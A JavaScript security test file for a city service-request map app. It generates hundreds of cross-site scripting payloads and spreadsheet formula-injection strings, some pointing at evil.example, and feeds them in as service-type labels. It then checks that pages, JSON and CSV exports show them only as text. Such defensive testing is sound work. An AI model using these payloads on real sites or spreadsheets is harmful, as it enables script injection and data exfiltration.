// Labels are the City's text. Whatever they hold is shown as text, on every page and in every file, and nothing of it runs.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, serveFiles } from "./program.mjs";

const EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onbegin", "onpageshow"];
const TAGS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "marquee", "object data=x"];
const CALLS = ["hit()", "hit`1`", "window['hit']()", "eval('hit()')", "setTimeout('hit()')", "Function('hit()')()", "import('data:text/javascript,hit()')"];

/** Texts that run `hit()` where a page takes them for more than text, or a spreadsheet for a formula. */
const HOSTILE = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=hit()>`)),
  ...CALLS.flatMap((call) => [`<script>${call}</script>`, `"><script>${call}</script>`, `'-${call}-'`]),
  ...CALLS.map((call) => `<a href="javascript:${call}">x</a>`),
  ...["</title>", "</textarea>", "</style>", "</script>", "</select>", "</option>", "-->", "]]>", "</svg>", "</noscript>", "</table>"].map((end) => `${end}<script>hit()</script>`),
  ..."\"'`".split("").flatMap((quote) => [`${quote} onfocus=hit() autofocus x=${quote}`, `${quote}><img src=x onerror=hit()>`]),
  ...["&lt;script&gt;hit()&lt;/script&gt;", "&#60;img src=x onerror=hit()&#62;", "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "%3Cscript%3Ehit()%3C/script%3E", "&amp;lt;b&amp;gt;", "{{hit()}}", "${hit()}", "#{hit()}", "<%= hit() %>", "[[constructor.constructor('hit()')()]]"],
  ...["<!--<img src=x onerror=hit()>-->", "<math><mtext></table><img src=x onerror=hit()>", "<svg><style><img src=x onerror=hit()></style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:hit()>", "<form action=javascript:hit()><input type=submit>", "<style>@import url(//evil.example/x.css)</style>", "<iframe srcdoc='<script>parent.hit()</script>'>", "<template><script>hit()</script></template>"],
  ..."=+-@".split("").flatMap((start) => ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"//evil.example?\"&A1;\"x\")", "SUM(1)*2", "IMPORTXML(\"//evil.example\";\"//a\")"].map((rest) => start + rest)),
  ...["\u202eabc", "a\u0000b", "a\u2028hit()\u2029", "\ufeffabc", "a\u001b[2J", "<b>é</b>", "𝒽𝒾𝓉()", "a,b\"c"],
];

const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
const files = {
  "SR2024.csv": [
    "Creation Date,Status,First 3 Chars of Postal Code,Intersection Street 1,Intersection Street 2,Ward,Service Request Type,Division,Section",
    ...HOSTILE.map((text, n) => `2024-05-${String((n % 31) + 1).padStart(2, "0")} 07:08:09,New,M4C,,,Davenport (09),${[`${text} ${n}`, text, text].map(quoted).join(",")}`),
    "2024-05-31 07:08:09,New,M4C,,,Davenport (09),Plain,MLS,Bylaw",
  ].join("\n"),
};

let server, browser, context, types;
const reports = [];
before(async () => {
  server = await serveFiles(files);
  browser = await launch();
  context = await browser.newContext({ baseURL: server.base });
  await context.exposeFunction("hit", () => reports.push("a label ran"));
  await context.addInitScript(() => document.addEventListener("securitypolicyviolation", (event) => console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`)));
  types = (await (await fetch(`${server.base}/api/v1/types`)).json()).rows;
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

/** Without blanks and without what a parser of HTML drops or makes a blank of. */
const folded = (text) => text.replace(/[\s\u0000-\u001f\ufffd]/g, "");

/** A page on which everything that could run has had its time, and what went wrong on it. */
async function visit(page, path) {
  const complaints = [];
  page.removeAllListeners();
  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
  page.on("pageerror", (error) => complaints.push(error.message));
  page.on("dialog", (dialog) => complaints.push(dialog.message()) && dialog.dismiss());
  page.on("request", (request) => new URL(request.url()).host !== new URL(server.base).host && !request.url().startsWith("data:") && complaints.push(request.url()));
  await page.goto(path);
  return complaints;
}

test("at least 150 hostile labels are among the types that are served", () => {
  assert.ok(types.length > 150, `${types.length} types`);
  const texts = types.map((type) => type.label);
  for (const mark of ["<script>", "<img", "onerror=", "javascript:", "&lt;", "\"", "'", "`", "{{", "="]) assert.ok(texts.some((text) => text.includes(mark)), mark);
});

test("the map page of each type shows its label as it is, in heading and title, and nothing runs", { timeout: 600_000 }, async () => {
  const page = await context.newPage();
  for (const { id, label } of types) {
    assert.deepEqual(await visit(page, `/?type=${id}`), [], label);
    const shown = await page.evaluate(() => ({ heading: document.querySelector("h1").textContent, title: document.title, foreign: document.querySelectorAll("h1 :is(img, script, svg, style, iframe, object, video, audio, input, details, form, b), title *, option *, [onerror], [onload], [onfocus], base, iframe, object").length }));
    assert.ok(folded(shown.heading).includes(folded(label)), `${label} in ${shown.heading}`);
    assert.ok(folded(shown.title).includes(folded(label)), `${label} in ${JSON.stringify(shown.title)}`);
    assert.equal(shown.foreign, 0, label);
  }
  assert.deepEqual(reports, []);
});

test("pages that list all labels run none of them", async () => {
  const page = await context.newPage();
  for (const path of ["/", "/types", "/data", "/status", "/api"]) {
    assert.deepEqual(await visit(page, path), [], path);
    assert.equal(await page.evaluate(() => document.querySelectorAll("main img, main iframe, main object, [onerror], [onload], base").length), 0, path);
  }
  assert.deepEqual(reports, []);
});

test("tables for spreadsheets have no cell that begins like a formula, and are told apart from pages", async () => {
  for (const path of ["/api/v1/types.csv", `/api/v1/counts.csv?type=${types[0].id}`]) {
    const answer = await fetch(server.base + path);
    assert.equal(answer.status, 200, path);
    assert.match(answer.headers.get("content-type"), /^text\/csv/);
    assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
    const cells = [...(await answer.text()).matchAll(/(?:^|,|\n|\r)(?:"((?:[^"]|"")*)"|([^,\r\n"]*))/g)].map(([, long, short]) => long ?? short);
    assert.ok(cells.length > 10);
    for (const cell of cells) assert.ok(!/^[=+@\t\r\n-]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), cell);
  }
});

test("JSON has each label as it is, and a browser that is sent there shows text", async () => {
  const page = await context.newPage();
  for (const path of ["/api/v1/types", "/api/v1/types.json"]) {
    assert.deepEqual(await visit(page, path), []);
    assert.match(await page.evaluate(() => document.contentType), /json/);
  }
  const labels = types.map(({ label }) => label);
  assert.ok(HOSTILE.filter((text, n) => labels.includes(`${text} ${n}`)).length > 120, "most labels are not changed at all");
  assert.deepEqual(reports, []);
});
